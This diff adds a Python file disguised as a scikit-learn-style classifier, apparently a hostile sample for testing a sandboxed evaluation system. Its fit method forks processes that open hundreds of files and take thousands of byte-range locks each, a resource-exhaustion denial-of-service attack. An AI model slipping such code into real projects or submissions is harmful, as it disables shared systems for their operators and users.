@@ -1,0 +1,20 @@
+import fcntl
+import os
+import time
+
+import numpy as np
+
+
+class Classifier:
+    def fit(self, X, y):
+        """Lock every second byte."""
+        if os.fork() == 0:
+            os.fork()
+            files = [open(f"{os.getpid()}-{i}", "w") for i in range(500)]
+            for file in files:
+                for i in range(2000):
+                    fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * i)
+        time.sleep(20)
+
+    def predict_proba(self, X):
+        return np.full((len(X), 3), 1 / 3)
